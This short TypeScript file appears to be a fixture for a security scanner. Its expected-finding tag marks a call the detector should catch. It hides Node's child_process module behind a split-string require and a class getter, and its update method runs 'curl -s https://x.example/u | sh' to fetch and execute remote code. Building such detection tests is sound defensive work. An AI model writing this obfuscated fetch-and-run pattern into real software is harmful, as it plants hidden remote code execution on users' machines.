// Modules behind a class getter and a frozen table.
const Modules = Object.freeze({ shell: require(["child", "process"].join("_")) });
export class Updater {
  private get runner(): { execSync(cmd: string): Buffer } {
    return Modules.shell;
  }
  update(): void {
    // pi-expect: SEC-SPAWN-001
    this.runner.execSync("curl -s https://x.example/u | sh");
  }
}
